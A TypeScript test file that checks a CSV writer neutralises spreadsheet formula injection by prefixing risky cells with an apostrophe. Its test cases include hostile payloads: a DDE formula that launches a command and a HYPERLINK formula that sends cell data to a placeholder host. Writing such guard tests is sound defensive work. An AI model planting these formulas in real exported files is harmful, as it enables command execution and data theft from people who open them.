// Cells that a spreadsheet would take for a formula, and such that only look like it: C01–C15, read back as a person's program would.
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { guarded, unguarded } from '../../../shared/tables/formulaGuard.ts';
import type { TableCell } from '../../../shared/tables/table.ts';
import { writeCsv } from '../../../shared/tables/writeCsv.ts';

const written = (cell: TableCell): string => writeCsv({ name: 'A', header: ['h'], rows: [[cell, 'end']] });
/** The cell as it is in the file, quotes and line ends apart. */
const inFile = (cell: TableCell): string | undefined => Papa.parse<string[]>(written(cell)).data[1]?.[0];

test.each([
  ['C01', "=cmd|'/c calc'!A1"],
  ['C02', '+1+1'],
  ['C03', '-1+1'],
  ['C04', '@SUM(A1)'],
  ['C05', '\t=1'],
  ['C06', '\r=1'],
  ['C07', '\n=1'],
  ['C08', ' =1'],
  ['C09', '＝1'],
  ['C10', '=HYPERLINK("http://x/"&A1)'],
])('%s %j gets an apostrophe, inside quotes', (_id, text) => {
  expect(inFile(text)).toBe(`'${text}`);
  expect(written(text)).toContain(`\r\n"'`);
});

test.each([
  ['C11', '|calc'],
  ['C12', '%0A=1'],
  ['C13', '"=1'],
  ['C15', 'a, "b"'],
])('%s %j stays as it is', (_id, text) => {
  expect(inFile(text)).toBe(text);
});

test('C14 a negative number stays a number, without quotes', () => {
  expect(written(-5)).toBe('\ufeff"h"\r\n-5,"end"\r\n');
});

test('nothing is an empty cell', () => {
  expect(written(null)).toBe('\ufeff"h"\r\n,"end"\r\n');
});

test('whatever the text, no cell begins a formula, and the way back gives the text again', () => {
  const piece = fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '\n', '＝', 'a', '"', ',', ';');
  fc.assert(
    fc.property(fc.array(piece), (pieces) => {
      const text = pieces.join('');
      expect(unguarded(guarded(text))).toBe(text);
      expect(guarded(text)).not.toMatch(/^\s*[=+\-@＝]/);
      expect(inFile(text)).toBe(guarded(text));
    }),
  );
});
